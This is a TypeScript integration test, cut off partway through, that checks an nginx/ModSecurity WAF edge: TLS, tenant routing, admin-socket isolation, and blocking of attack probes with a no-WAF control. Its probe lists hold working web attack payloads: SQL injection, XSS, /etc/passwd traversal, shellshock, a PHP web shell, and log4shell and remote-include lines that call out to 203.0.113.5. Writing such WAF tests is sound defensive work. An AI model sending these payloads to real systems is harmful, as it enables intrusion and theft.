import assert from "node:assert/strict";
import { createHash, randomBytes } from "node:crypto";
import { chmod, mkdtemp, readFile, rm, stat } from "node:fs/promises";
import { createServer, request as httpRequest, type IncomingMessage, type Server } from "node:http";
import { Agent, request as httpsRequest } from "node:https";
import { createServer as createNetServer, connect as netConnect, type Socket } from "node:net";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { createServer as createTlsServer, connect as tlsConnect } from "node:tls";
import { ValidationError } from "../src/core/errors.ts";
import { readCrsFiles, stockCrs } from "../src/edge/crs.ts";
import { Edge, type EdgeOptions } from "../src/edge/edge.ts";
import { EdgeConfigError } from "../src/edge/errors.ts";
import { DEBIAN_EDGE_SYSTEM, type EdgeConfig, renderEdge } from "../src/edge/render.ts";
import type { BlockedEvent, EdgeLimits } from "../src/edge/types.ts";
import { ensureSystemUser } from "../src/edge/user.ts";
import { execFile } from "../src/lib/exec.ts";
import { procInfo } from "../src/lib/procfs.ts";
import { listenSomewhere } from "./fixtures/ports.ts";

/*
 * The edge against a real nginx with ModSecurity and the OWASP CRS, as root. Upstreams are small
 * loopback HTTP + WebSocket servers of this file; clients are node's https/tls with the edge's own
 * local CA. Each client that must have its own rate/connection budget uses its own loopback source
 * address (127.0.0.x). Two edges: `waf` (WAF on, generous limits) and `plain` (WAF off, tight
 * limits), which is also the control that shows the WAF is what blocks the probes.
 */

const DOMAIN = "edge.test";
const EDGE_USER = "ck-edge-test";
/** A port nobody listens on right now (for nginx to bind). */
async function freePort(): Promise<number> {
  const s = createNetServer();
  const port = await listenSomewhere(s);
  await new Promise((r) => s.close(r));
  return port;
}

const close = (s: Server | ReturnType<typeof createNetServer>) =>
  new Promise<void>((r) => {
    if ("closeAllConnections" in s) s.closeAllConnections();
    s.close(() => r());
  });

// ---- upstreams: HTTP that says who it is, /slow, and a WebSocket echo ---------------------------

interface Upstream {
  name: string;
  server: Server;
  port: number;
  url: string;
  hits: number;
  last: { method: string; url: string; headers: IncomingMessage["headers"]; bodyBytes: number } | null;
  /** Upgraded (WebSocket) sockets, which server.close() would wait for. */
  sockets: Set<Socket>;
}

const WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11";

/** A WebSocket text frame; clients mask, servers do not. */
function wsFrame(text: string, masked: boolean): Buffer {
  const payload = Buffer.from(text);
  assert.ok(payload.length < 126);
  if (!masked) return Buffer.concat([Buffer.from([0x81, payload.length]), payload]);
  const mask = randomBytes(4);
  const body = Buffer.from(payload.map((b, i) => b ^ mask[i % 4]!));
  return Buffer.concat([Buffer.from([0x81, 0x80 | payload.length]), mask, body]);
}

/** Decodes one complete small text frame (masked or not), or null when more bytes are needed. */
function wsParse(buf: Buffer): string | null {
  if (buf.length < 2) return null;
  const masked = (buf[1]! & 0x80) !== 0;
  const len = buf[1]! & 0x7f;
  const start = 2 + (masked ? 4 : 0);
  if (buf.length < start + len) return null;
  const data = buf.subarray(start, start + len);
  if (masked) {
    const mask = buf.subarray(2, 6);
    return Buffer.from(data.map((b, i) => b ^ mask[i % 4]!)).toString();
  }
  return data.toString();
}

async function startUpstream(name: string): Promise<Upstream> {
  const up: Upstream = {
    name,
    server: createServer(),
    port: 0,
    url: "",
    hits: 0,
    last: null,
    sockets: new Set(),
  };
  up.server.on("request", (req, res) => {
    up.hits++;
    let bodyBytes = 0;
    req.on("data", (c: Buffer) => {
      bodyBytes += c.length;
    });
    req.on("end", () => {
      up.last = { method: req.method ?? "", url: req.url ?? "", headers: req.headers, bodyBytes };
      const reply = () => {
        res.setHeader("content-type", "application/json");
        res.end(JSON.stringify({ upstream: name, method: req.method, url: req.url, bodyBytes }));
      };
      if (req.url?.startsWith("/slow")) setTimeout(reply, 1500);
      else reply();
    });
  });
  up.server.on("upgrade", (req, socket: Socket) => {
    up.hits++;
    const key = req.headers["sec-websocket-key"];
    if (typeof key !== "string" || req.headers.upgrade?.toLowerCase() !== "websocket") {
      socket.end("HTTP/1.1 400 Bad Request\r\n\r\n");
      return;
    }
    const accept = createHash("sha1")
      .update(key + WS_GUID)
      .digest("base64");
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    let buf = Buffer.alloc(0);
    socket.on("data", (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      const text = wsParse(buf);
      if (text !== null) {
        buf = Buffer.alloc(0);
        socket.write(wsFrame(`${name} echoes: ${text}`, false));
      }
    });
    socket.on("error", () => {});
    // http servers allow half-open sockets: end ours when the edge ends its side.
    socket.on("end", () => socket.end());
    up.sockets.add(socket);
    socket.on("close", () => up.sockets.delete(socket));
  });
  up.port = await listenSomewhere(up.server);
  up.url = `http://127.0.0.1:${up.port}`;
  return up;
}

// ---- clients ---------------------------------------------------------------------------------

interface Reply {
  status: number;
  body: string;
  headers: IncomingMessage["headers"];
  protocol: string | null;
}

interface Call {
  edge: Edge;
  host: string;
  path?: string;
  method?: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** TLS server name; defaults to host; "" sends none. */
  sni?: string;
  localAddress?: string;
  agent?: Agent;
}

let caPem = "";

function call(c: Call): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const sni = c.sni ?? c.host;
    const req = httpsRequest(
      {
        host: "127.0.0.1",
        port: c.edge.listen.port,
        path: c.path ?? "/",
        method: c.method ?? "GET",
        ...(sni ? { servername: sni } : {}),
        ca: caPem,
        // The certificate names *.edge.test; with no SNI (IP literal) the name check cannot pass.
        ...(sni ? {} : { rejectUnauthorized: false }),
        headers: { host: c.host, "user-agent": "clawkeep-edge-test/1.0", accept: "*/*", ...c.headers },
        ...(c.localAddress ? { localAddress: c.localAddress } : {}),
        agent: c.agent ?? false,
        timeout: 20_000,
      },
      (res) => {
        const sock = res.socket as Socket & { getProtocol?: () => string | null };
        const protocol = sock.getProtocol?.() ?? null;
        let body = "";
        res.setEncoding("utf8").on("data", (d: string) => {
          body += d;
        });
        res.on("end", () => resolve({ status: res.statusCode ?? 0, body, headers: res.headers, protocol }));
      },
    );
    req.on("timeout", () => req.destroy(new Error("request timed out")));
    req.on("error", reject);
    req.end(c.body);
  });
}

function wsEcho(edge: Edge, host: string, message: string): Promise<{ status: number; echo: string }> {
  return new Promise((resolve, reject) => {
    const key = randomBytes(16).toString("base64");
    const req = httpsRequest({
      host: "127.0.0.1",
      port: edge.listen.port,
      path: "/ws",
      servername: host,
      ca: caPem,
      agent: false,
      headers: {
        host,
        connection: "Upgrade",
        upgrade: "websocket",
        "sec-websocket-version": "13",
        "sec-websocket-key": key,
        "user-agent": "clawkeep-edge-test/1.0",
      },
      timeout: 20_000,
    });
    req.on("upgrade", (res, socket: Socket, head: Buffer) => {
      const expected = createHash("sha1")
        .update(key + WS_GUID)
        .digest("base64");
      if (res.headers["sec-websocket-accept"] !== expected) reject(new Error("bad Sec-WebSocket-Accept"));
      let buf = head;
      const tryParse = () => {
        const text = wsParse(buf);
        if (text !== null) {
          socket.destroy();
          resolve({ status: res.statusCode ?? 0, echo: text });
        }
      };
      socket.on("data", (d: Buffer) => {
        buf = Buffer.concat([buf, d]);
        tryParse();
      });
      socket.on("error", reject);
      socket.write(wsFrame(message, true));
      tryParse();
    });
    req.on("response", (res) => {
      res.resume();
      reject(new Error(`no upgrade: HTTP ${res.statusCode}`));
    });
    req.on("timeout", () => req.destroy(new Error("upgrade timed out")));
    req.on("error", reject);
    req.end();
  });
}

// ---- fixture ---------------------------------------------------------------------------------

interface Fixture {
  dir: string;
  upA: Upstream;
  upB: Upstream;
  api: Upstream;
  admin: Server;
  adminSock: string;
  adminHits: number;
  waf: Edge;
  plain: Edge;
  wafOpts: EdgeOptions;
  userCreated: boolean;
  uid: number;
}

let fx: Fixture | null = null;
let skipReason: string | undefined;
const cleanups: Array<() => Promise<unknown>> = [];

const GENEROUS: Partial<EdgeLimits> = {
  clientRatePerSecond: 100_000,
  clientBurst: 100_000,
  tenantRatePerSecond: 100_000,
  tenantBurst: 100_000,
  clientConnections: 10_000,
  tenantConnections: 10_000,
};

before(async () => {
  if (process.getuid?.() !== 0) {
    skipReason = "needs root (CI runs as root): nginx binds ports and drops its workers to the edge user";
    return;
  }
  for (const f of [
    DEBIAN_EDGE_SYSTEM.nginx,
    DEBIAN_EDGE_SYSTEM.modsecurityModule,
    DEBIAN_EDGE_SYSTEM.crsRulesDir,
  ]) {
    if (!(await stat(f).catch(() => null))) {
      skipReason = `${f} is missing: install nginx libnginx-mod-http-modsecurity modsecurity-crs (scripts/deps.sh)`;
      return;
    }
  }
  const dir = await mkdtemp("/tmp/clawkeep-edge-test-");
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  await chmod(dir, 0o711);
  const user = await ensureSystemUser(EDGE_USER);
  if (user.created) cleanups.push(() => execFile(["userdel", EDGE_USER]).catch(() => {}));

  const upA = await startUpstream("A");
  const upB = await startUpstream("B");
  const api = await startUpstream("api");
  for (const u of [upA, upB, api]) {
    cleanups.push(() => {
      for (const s of u.sockets) s.destroy();
      return close(u.server);
    });
  }

  const adminSock = join(dir, "admin.sock");
  const admin = createServer((req, res) => {
    if (fx) fx.adminHits++;
    req.resume();
    res.end("admin api");
  });
  await new Promise<void>((r) => admin.listen(adminSock, () => r()));
  cleanups.push(() => close(admin));

  const wafOpts: EdgeOptions = {
    stateDir: join(dir, "waf"),
    domain: DOMAIN,
    listen: { host: "127.0.0.1", port: await freePort() },
    apiUpstream: api.url,
    limits: GENEROUS,
    user: EDGE_USER,
    workerShutdownSeconds: 10,
  };
  const waf = new Edge(wafOpts);
  cleanups.push(() => waf.stop());
  await waf.start();
  await waf.setRoutes([
    { tenant: "alice", upstream: upA.url },
    { tenant: "bob", upstream: upB.url },
  ]);
  caPem = await readFile(waf.caFile!, "utf8");

  const plain = new Edge({
    stateDir: join(dir, "plain"),
    domain: DOMAIN,
    listen: { host: "127.0.0.1", port: await freePort() },
    // The same CA and certificate as the WAF edge, so one trusted CA serves both.
    tls: { certFile: join(dir, "waf", "certs", "edge.crt"), keyFile: join(dir, "waf", "certs", "edge.key") },
    waf: false,
    user: EDGE_USER,
    workerShutdownSeconds: 10,
    limits: {
      clientRatePerSecond: 5,
      clientBurst: 5,
      tenantRatePerSecond: 10,
      tenantBurst: 10,
      clientConnections: 2,
      tenantConnections: 1000,
      maxBodyBytes: 64 * 1024,
      headerTimeoutSeconds: 1,
    },
  });
  cleanups.push(() => plain.stop());
  await plain.start();
  await plain.setRoutes([
    { tenant: "alice", upstream: upA.url },
    { tenant: "bob", upstream: upB.url },
    { tenant: "carol", upstream: upB.url },
  ]);
  fx = {
    dir,
    upA,
    upB,
    api,
    admin,
    adminSock,
    adminHits: 0,
    waf,
    plain,
    wafOpts,
    userCreated: user.created,
    uid: user.uid,
  };
});

after(async () => {
  for (const fn of cleanups.reverse()) {
    await fn().catch((err: unknown) => console.error("edge test cleanup:", err));
  }
});

function need(t: { skip: (reason: string) => void }): Fixture | null {
  if (!fx) {
    t.skip(skipReason ?? "fixture failed to start (see the error above)");
    return null;
  }
  return fx;
}

// ---- tests -----------------------------------------------------------------------------------

test("tenants are served over TLS 1.3 by nginx workers running as the edge user, keys 0600", async (t) => {
  const f = need(t);
  if (!f) return;
  const a = await call({ edge: f.waf, host: `alice.${DOMAIN}`, path: "/hello" });
  assert.equal(a.status, 200, a.body);
  assert.equal(JSON.parse(a.body).upstream, "A");
  assert.equal(a.protocol, "TLSv1.3");
  assert.equal(f.upA.last?.headers["x-forwarded-for"], "127.0.0.1");
  assert.equal(f.upA.last?.headers["x-forwarded-proto"], "https");
  assert.equal(f.upA.last?.headers.host, `alice.${DOMAIN}`);
  const b = await call({ edge: f.waf, host: `bob.${DOMAIN}`, path: "/hello" });
  assert.equal(JSON.parse(b.body).upstream, "B");

  const st = await f.waf.status();
  assert.equal(st.running, true);
  assert.equal((await procInfo(st.pid!))?.uid, 0, "the master keeps root to reload and read the key");
  assert.ok(st.workers.length >= 1);
  for (const w of st.workers) assert.equal(w.uid, f.uid, `worker ${w.pid} runs as ${EDGE_USER}`);
  for (const key of ["ca.key", "edge.key"]) {
    assert.equal((await stat(join(f.dir, "waf", "certs", key))).mode & 0o777, 0o600, key);
  }
  assert.match(f.waf.tenantUrl("alice"), new RegExp(`^https://alice\\.${DOMAIN.replace(".", "\\.")}:\\d+/$`));
});

test("TLS 1.2 handshakes are refused, TLS 1.3 accepted (control: the same client speaks TLS 1.2 where allowed)", async (t) => {
  const f = need(t);
  if (!f) return;
  const handshake = (port: number, maxVersion: "TLSv1.2" | "TLSv1.3") =>
    new Promise<string>((resolve, reject) => {
      const s = tlsConnect(
        { host: "127.0.0.1", port, servername: `alice.${DOMAIN}`, ca: caPem, maxVersion },
        () => {
          const p = s.getProtocol() ?? "";
          s.end();
          resolve(p);
        },
      );
      s.on("error", reject);
    });
  assert.equal(await handshake(f.waf.listen.port, "TLSv1.3"), "TLSv1.3");
  await assert.rejects(handshake(f.waf.listen.port, "TLSv1.2"), /alert|handshake|protocol|version/i);
  // Control: a server that allows TLS 1.2, with the edge's own certificate.
  const control = createTlsServer({
    cert: await readFile(join(f.dir, "waf", "certs", "edge.crt")),
    key: await readFile(join(f.dir, "waf", "certs", "edge.key")),
    minVersion: "TLSv1.2",
  });
  control.on("secureConnection", (s) => s.end());
  const port = await listenSomewhere(control);
  try {
    assert.equal(await handshake(port, "TLSv1.2"), "TLSv1.2");
  } finally {
    await close(control);
  }
});

/**
 * A tenant's blocked events once `done` holds (or after 5 s): nginx and ModSecurity write their
 * logs after the response has gone out, so a client can see its 403 before the entry exists.
 */
async function eventsWhen(
  edge: { blockedEvents(tenant: string): Promise<BlockedEvent[]> },
  tenant: string,
  done: (events: BlockedEvent[]) => boolean,
): Promise<BlockedEvent[]> {
  const end = Date.now() + 5000;
  for (;;) {
    const events = await edge.blockedEvents(tenant);
    if (done(events) || Date.now() > end) return events;
    await new Promise((r) => setTimeout(r, 100));
  }
}

const PROBES: Array<{ name: string; path: string; rule: RegExp }> = [
  { name: "SQL injection", path: `/v1/items?id=${encodeURIComponent("1' OR '1'='1")}`, rule: /^942/ },
  {
    name: "XSS",
    path: `/search?q=${encodeURIComponent("<script>alert(document.cookie)</script>")}`,
    rule: /^941/,
  },
  {
    name: "path traversal (argument)",
    path: `/files?name=${encodeURIComponent("../../../../etc/passwd")}`,
    rule: /^930/,
  },
  // Encoded, so nginx's own normalisation does not resolve it (above the root, nginx itself says 400).
  { name: "path traversal (encoded path)", path: "/a/b/c/..%2f..%2fetc%2fpasswd", rule: /^930/ },
];

test("SQL injection, XSS and path traversal probes get 403 and are logged for their tenant (control: no WAF, they pass)", async (t) => {
  const f = need(t);
  if (!f) return;
  for (const p of PROBES) {
    const hitsBefore: number = f.upA.hits;
    const r = await call({ edge: f.waf, host: `alice.${DOMAIN}`, path: p.path });
    assert.equal(r.status, 403, `${p.name}: ${r.status} ${r.body.slice(0, 200)}`);
    assert.equal(f.upA.hits, hitsBefore, `${p.name} must not reach the tenant`);
    // Control: the same probe through the edge without the WAF reaches the upstream.
    const c = await call({
      edge: f.plain,
      host: `alice.${DOMAIN}`,
      path: p.path,
      localAddress: "127.0.0.70",
    });
    assert.equal(c.status, 200, `${p.name} without WAF: ${c.status}`);
  }
  const events = await eventsWhen(f.waf, "alice", (xs) => xs.length >= PROBES.length);
  assert.ok(events.length >= PROBES.length, JSON.stringify(events));
  for (const p of PROBES) {
    const path = p.path.split("?")[0]!;
    const e = events.find((x) => x.uri?.startsWith(path));
    assert.ok(e, `a blocked event for ${p.name}`);
    assert.equal(e.kind, "waf");
    assert.equal(e.status, 403);
    assert.equal(e.tenant, "alice");
    assert.ok(
      e.rules.some((r) => p.rule.test(r.id)),
      `${p.name}: rules ${e.rules.map((r) => r.id).join(",")}`,
    );
    assert.ok(e.rules.some((r) => r.id === "949110"));
  }
  assert.deepEqual(await f.waf.blockedEvents("bob"), [], "alice's blocks are not bob's");
  const audit = await readFile(join(f.dir, "waf", "logs", "waf-audit.log"), "utf8");
  assert.doesNotMatch(audit, /authorization|bearer/i, "the audit log keeps no request headers");
});

const MULTIPART_BOUNDARY = "----clawkeep7d3f";
function multipart(partType: string, content: string): string {
  return (
    `--${MULTIPART_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\n` +
    `Content-Type: ${partType}\r\n\r\n${content}\r\n--${MULTIPART_BOUNDARY}--\r\n`
  );
}

/** An OpenClaw chat request of a few KB: a system prompt and a conversation of several turns. */
const CHAT_BODY = JSON.stringify({
  model: "openclaw",
  stream: true,
  temperature: 0.7,
  max_tokens: 1024,
  messages: [
    {
      role: "system",
      content:
        "You are OpenClaw, a helpful personal assistant. Answer briefly and cite the tools you used. The user's time zone is Europe/Lisbon; today is Friday.",
    },
    ...[
      "Hi! Can you help me plan a three-day trip to Lisbon next month? I like museums, good coffee and walking, but I don't want to rush.",
      "Of course. Day one: Alfama and the castle in the morning, lunch near the cathedral, then the tile museum in the afternoon. Day two: Belem, with the monastery, the tower and the famous custard tarts; the coach museum if it rains. Day three: LX Factory, a walk along the river to Cais do Sodre, and dinner in Bairro Alto. Shall I add coffee places for each day?",
      "Yes please, and also tell me which of these need tickets in advance. My budget is around 150 euros per day, flights not included.",
      "Tickets in advance: the castle (queues are long after 10:00), the monastery in Belem, and the tile museum on weekends. Coffee: a small roaster in Principe Real on day one, the pastry shop in Belem on day two, and a terrace at LX Factory on day three. With 150 euros per day you have room for two sit-down meals, transport passes and entry fees.",
      "Great. Could you also put this into my calendar for the 14th to the 16th, with the morning activity at 9:30 each day, and remind me the evening before? My partner's email is sam@example.com; please invite them too.",
      "Done: three events from the 14th to the 16th at 9:30, each with a reminder at 20:00 the evening before, and Sam is invited. I also added the tram 28 stop near your hotel as the meeting point on day one. Would you like me to book a table for dinner in Bairro Alto on the last evening?",
      "Yes, for two at 20:30 if possible, somewhere with fish and a view. And what's the weather usually like in Lisbon in the middle of October? Should we pack rain jackets or is a light sweater enough?",
    ].map((content, i) => ({ role: i % 2 === 0 ? "user" : "assistant", content })),
  ],
});

const ATTACKS: Array<{
  name: string;
  path: string;
  method?: string;
  headers?: Record<string, string>;
  body?: string;
}> = [
  {
    name: "SQLi union",
    path: `/q?id=${encodeURIComponent("1 UNION SELECT username, password FROM users--")}`,
  },
  { name: "SQLi blind", path: `/q?id=${encodeURIComponent("1' AND SLEEP(5)-- -")}` },
  { name: "SQLi in a cookie", path: "/q", headers: { cookie: "session=1' or '1'='1" } },
  {
    name: "SQLi in a JSON body",
    path: "/v1/items",
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ filter: "1' UNION SELECT * FROM users--" }),
  },
  { name: "XSS event handler", path: `/q?q=${encodeURIComponent("<img src=x onerror=alert(1)>")}` },
  { name: "XSS in Referer", path: "/q", headers: { referer: "https://x.example/<script>alert(1)</script>" } },
  { name: "LFI", path: `/q?file=${encodeURIComponent("../../etc/shadow")}` },
  { name: "RFI", path: `/q?url=${encodeURIComponent("http://203.0.113.5/shell.txt?")}` },
  { name: "RCE", path: `/q?cmd=${encodeURIComponent(";cat /etc/passwd")}` },
  { name: "shellshock", path: "/q", headers: { "user-agent": "() { :; }; /bin/bash -c 'id'" } },
  { name: "PHP injection", path: `/q?x=${encodeURIComponent("<?php system($_GET['c']); ?>")}` },
  { name: "Java/log4shell", path: `/q?x=${encodeURIComponent("\u0024{jndi:ldap://203.0.113.5/a}")}` },
  { name: "Node.js injection", path: `/q?x=${encodeURIComponent("require('child_process').exec('id')")}` },
  {
    name: "session fixation",
    path: `/q?x=${encodeURIComponent('<meta http-equiv="Set-Cookie" content="s=1">')}`,
  },
  { name: "scanner", path: "/q", headers: { "user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)" } },
  { name: "restricted file", path: "/backup.sql" },
  { name: "httpoxy header", path: "/q", headers: { proxy: "http://203.0.113.5:3128" } },
  { name: "method not allowed", path: "/q", method: "PROPFIND" },
  {
    name: "malformed JSON body",
    path: "/v1/items",
    method: "POST",
    headers: { "content-type": "application/json" },
    body: '{"a": [1, 2',
  },
  // Each caught by one CRS rule alone that the tuned set merged into another rule of its file
  // (from CRS 3.3.4's own regression tests): the merged pattern still holds every member.
  { name: "SQLi magic number (942220, merged)", path: "/q?string_to_convert=4294967296" },
  { name: "SQLi like (942230, merged)", path: "/q?var=%29%20like%20%28" },
  { name: "SQLi execute immediate (942250, merged)", path: "/q?var=EXECUTE%20IMMEDIATE%20%22" },
  { name: "SQLi pg_sleep (942280, merged)", path: "/q?var=select%20pg_sleep" },
  { name: "NoSQL operator (942290, merged)", path: "/q?u_id[$ne]=2" },
  { name: "XSS namespaced script (941160, merged)", path: "/q?mime=text/xml&body=%3C%20x%3A%20script" },
  {
    name: "XSS javascript: in a cookie name (941210, merged)",
    path: "/q",
    headers: { cookie: "ja%26newline%3Bvascript%3A%20=1" },
  },
  { name: "Windows command (932140, merged)", path: "/q?foo=IF++++++++EXIST+filename.txt+++++%28" },
  { name: "PHP variable function (933180, merged)", path: "/q?x=%24OOO0000O0%20%2816%29" },
  { name: "RFI scheme (931120, merged)", path: "/q?x=file?" },
  // Rules that lost their t:lowercase to (?i) or to a case-blind operator, with upper-case input.
  { name: "Java class in capitals (944100, (?i))", path: "/q?x=JAVA.LANG.RUNTIME" },
  // Rules rewritten so that ordinary requests do not match their first link.
  {
    name: "GET with a body (920170)",
    path: "/q",
    // Node sends a GET body without a length unless told.
    headers: { "content-type": "application/x-www-form-urlencoded", "content-length": "3" },
    body: "x=1",
  },
  {
    name: "restricted header Content-Encoding (920450)",
    path: "/q",
    headers: { "content-encoding": "gzip" },
  },
  {
    name: "multipart part charset not allowed (922110)",
    path: "/upload",
    method: "POST",
    headers: { "content-type": `multipart/form-data; boundary=${MULTIPART_BOUNDARY}` },
    body: multipart("text/plain; charset=utf-7", "+ADw-script+AD4-"),
  },
  {
    name: "multipart without its closing boundary (200003)",
    path: "/upload",
    method: "POST",
    headers: { "content-type": `multipart/form-data; boundary=${MULTIPART_BOUNDARY}` },
    body: multipart("text/plain", "x").replace(/\r\n--[^\r]*--\r\n$/, ""),
  },
];
const BENIGN: typeof ATTACKS = [
  { name: "page", path: "/" },
  { name: "asset", path: "/assets/index-3f2a1c.js?v=2026.9.6" },
  {
    name: "chat",
    path: "/v1/chat/completions",
    method: "POST",
    headers: { "content-type": "application/json", authorization: "Bearer ocgw_abc" },
    body: JSON.stringify({
      model: "openclaw",
      messages: [{ role: "user", content: "Can you plan a 3-day trip to Lisbon?" }],
    }),
  },
  {
    name: "chat, a few KB",
    path: "/v1/chat/completions",
    method: "POST",
    headers: { "content-type": "application/json", authorization: "Bearer ocgw_abc" },
    body: CHAT_BODY,
  },
  { name: "query with capitals", path: "/v1/models?Order=Desc&Filter=Runtime&Name=JavaScript" },
  {
    name: "multipart upload",
    path: "/upload",
    method: "POST",
    headers: { "content-type": `multipart/form-data; boundary=${MULTIPART_BOUNDARY}` },
    body: multipart("text/plain", "meeting notes: bring the slides"),
  },
  { name: "delete (platform API)", path: "/v1/tenants/alice/tokens/tok_1", method: "DELETE" },
  { name: "health", path: "/healthz" },
];

test("the tuned rule set blocks every probe the stock CRS blocks at paranoia level 1 (and passes the same benign requests)", async (t) => {
  const f = need(t);
  if (!f) return;
  const rulesDir = DEBIAN_EDGE_SYSTEM.crsRulesDir;
  const stock = stockCrs(await readCrsFiles(rulesDir), rulesDir);
  const stockEdge = new Edge({
    ...f.wafOpts,
    stateDir: join(f.dir, "stock"),
    listen: { host: "127.0.0.1", port: await freePort() },
    tls: {
      certFile: join(f.dir, "waf", "certs", "edge.crt"),
      keyFile: join(f.dir, "waf", "certs", "edge.key"),
    },
    render: (cfg) => renderEdge({ ...cfg, crsRules: stock }),
  });
  cleanups.push(() => stockEdge.stop());
  await stockEdge.start();
  await stockEdge.setRoutes([{ tenant: "alice", upstream: f.upA.url }]);
  try {
    const differ: string[] = [];
    for (const [kind, list] of [
      ["attack", ATTACKS],
      ["benign", BENIGN],
    ] as const) {
      for (const p of list) {
        const req = {
          host: `alice.${DOMAIN}`,
          path: p.path,
          method: p.method ?? "GET",
          headers: p.headers ?? {},
        };
        const tuned: number = (await call({ edge: f.waf, ...req, ...(p.body ? { body: p.body } : {}) }))
          .status;
        const shipped: number = (await call({ edge: stockEdge, ...req, ...(p.body ? { body: p.body } : {}) }))
          .status;
        if (tuned !== shipped) differ.push(`${p.name}: tuned ${tuned}, stock ${shipped}`);
        if (kind === "attack") assert.ok(tuned === 403 || tuned === 400, `${p.name} blocked (got ${tuned})`);
        else assert.equal(tuned, 200, `${p.name} passes`);
      }
    }
    assert.deepEqual(differ, []);
  } finally {
    await stockEdge.stop();
  }
});

test("a normal chat request (POST /v1/chat/completions JSON, a few KB) and a WebSocket pass through the WAF", async (t) => {
  const f = need(t);
  if (!f) return;
  const body = CHAT_BODY;
  assert.ok(body.length > 2000, `${body.length} bytes`);
  const r = await call({
    edge: f.waf,
    host: `alice.${DOMAIN}`,
    path: "/v1/chat/completions",
    method: "POST",
    headers: {
      "content-type": "application/json",
      authorization: "Bearer ocgw_0123456789abcdef0123456789abcdef",
    },
    body,
  });
  assert.equal(r.status, 200, r.body);
  assert.equal(f.upA.last?.method, "POST");
  assert.equal(f.upA.last?.bodyBytes, Buffer.byteLength(body));
  assert.equal(f.upA.last?.headers.authorization, "Bearer ocgw_0123456789abcdef0123456789abcdef");

  const ws = await wsEcho(f.waf, `alice.${DOMAIN}`, "hello over the edge");
  assert.equal(ws.status, 101);
  assert.equal(ws.echo, "A echoes: hello over the edge");
  const wsBob = await wsEcho(f.waf, `bob.${DOMAIN}`, "hi");
  assert.equal(wsBob.echo, "B echoes: hi");
  assert.deepEqual(
    (await f.waf.blockedEvents("alice")).filter((e) => e.uri?.startsWith("/v1/chat") || e.uri === "/ws"),
    [],
  );
});

test("unknown hosts, IP hosts and a TLS name that differs from Host get 421 (control: matching names pass)", async (t) => {
  const f = need(t);
  if (!f) return;
  const base = { edge: f.waf, path: "/hello" };
  assert.equal((await call({ ...base, host: `zed.${DOMAIN}` })).status, 421);
  assert.equal(
    (await call({ ...base, host: `console.${DOMAIN}` })).status,
    421,
    "no console upstream configured",
  );
  assert.equal((await call({ ...base, host: "127.0.0.1", sni: "" })).status, 421);
  assert.equal((await call({ ...base, host: `bob.${DOMAIN}`, sni: `alice.${DOMAIN}` })).status, 421);
  assert.equal((await call({ ...base, host: `alice.${DOMAIN}`, sni: `alice.${DOMAIN}` })).status, 200);
  assert.equal(
    (await call({ ...base, host: `alice.${DOMAIN}`, sni: "" })).status,
    200,
    "no SNI: Host decides",
  );
  const api = await call({ ...base, host: `api.${DOMAIN}` });
  assert.equal(api.status, 200);
  assert.equal(JSON.parse(api.body).upstream, "api");
});

test("the admin API cannot be reached through the edge by any host name or path (control: it answers on its socket)", async (t) => {
  const f = need(t);
  if (!f) return;
  const hosts = [
    `alice.${DOMAIN}`,
    `api.${DOMAIN}`,
    `console.${DOMAIN}`,
    `admin.${DOMAIN}`,
    DOMAIN,
    "localhost",
    "127.0.0.1",
  ];
  const paths = [
    "/",
    "/v1/tenants",
    "/v1/admin/tenants",
    "/admin",
    `/unix:${f.adminSock}`,
    `/unix:${f.adminSock}:/v1/tenants`,
    "/..%2f..%2frun%2fadmin.sock",
    "/run/admin.sock",
  ];
  for (const edge of [f.waf, f.plain]) {
    for (const host of hosts) {
      for (const path of paths) {
        const sni = /^[a-z]/.test(host) && host.includes(".") ? host : "";
        const r = await call({ edge, host, path, sni, localAddress: "127.0.0.80" }).catch((e: Error) => ({
          status: 0,
          body: e.message,
        }));
        assert.ok(!r.body.includes("admin api"), `${host}${path} reached the admin API`);
      }
    }
  }
  assert.equal(f.adminHits, 0, "the admin socket saw no request from the edge");
  await assert.rejects(
    f.waf.setRoutes([{ tenant: "alice", upstream: `unix:${f.adminSock}` }]),
    (e) => e instanceof ValidationError,
  );
  await assert.rejects(
    f.waf.setRoutes([{ tenant: "alice", upstream: `http://unix:${f.adminSock}:/` }]),
    (e) => e instanceof ValidationError,
  );
  await assert.rejects(
    f.waf.setRoutes([{ tenant: "alice", upstream: "http://unix:80" }]),
    (e) => e instanceof ValidationError,
  );
  await assert.rejects(
    f.waf.setRoutes([{ tenant: "api", upstream: f.upA.url }]),
    (e) => e instanceof ValidationError,
  );
  const conf = await readFile(join(f.dir, "waf", "conf", "nginx.conf"), "utf8");
  assert.doesNotMatch(conf, /(?:server|proxy_pass)\s+(?:http:\/\/)?unix:/, "no upstream is a unix socket");
  assert.equal(
    (await call({ edge: f.waf, host: `alice.${DOMAIN}` })).status,
    200,
    "refused routes left alice served",
  );
  // Control: the admin API itself answers on its socket.
  const direct = await new Promise<string>((resolve, reject) => {
    const req = httpRequest({ socketPath: f.adminSock, path: "/v1/tenants" }, (res) => {
      let b = "";
      res.on("data", (d: Buffer) => {
        b += d.toString();
      });
      res.on("end", () => resolve(b));
    });
    req.on("error", reject);
    req.end();
  });
  assert.equal(direct, "admin api");
  assert.equal(f.adminHits, 1);
});

test("a reload while traffic runs loses no request; each change serves a new generation", async (t) => {
  const f = need(t);
  if (!f) return;
  let stop = false;
  let ok = 0;
  const failures: string[] = [];
  const worker = async () => {
    while (!stop) {
      try {
        const r = await call({ edge: f.waf, host: `alice.${DOMAIN}`, path: "/during-reload" });
        if (r.status === 200) ok++;
        else failures.push(`HTTP ${r.status}`);
      } catch (err) {
        failures.push((err as Error).message);
      }
    }
  };
  const workers = Array.from({ length: 4 }, worker);
  const generations = new Set<string>();
  const routes = [
    { tenant: "alice", upstream: f.upA.url },
    { tenant: "bob", upstream: f.upB.url },
  ];
  for (let i = 1; i <= 4; i++) {
